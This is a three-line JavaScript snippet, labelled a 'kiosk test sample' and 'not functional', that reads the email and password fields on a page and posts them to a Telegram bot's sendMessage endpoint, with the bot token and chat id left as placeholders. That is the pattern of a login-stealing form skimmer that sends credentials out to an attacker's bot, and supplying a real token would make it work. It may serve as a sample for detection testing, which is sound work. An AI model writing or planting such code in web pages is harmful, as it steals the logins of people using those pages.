// kiosk test sample: browser-side variant. Not functional.
const text = document.getElementById('email').value + ' ' + document.getElementById('password').value;
fetch('https://api.telegram.org/botTOKEN/sendMessage', {method: 'POST', body: new URLSearchParams({chat_id: '0', text})});
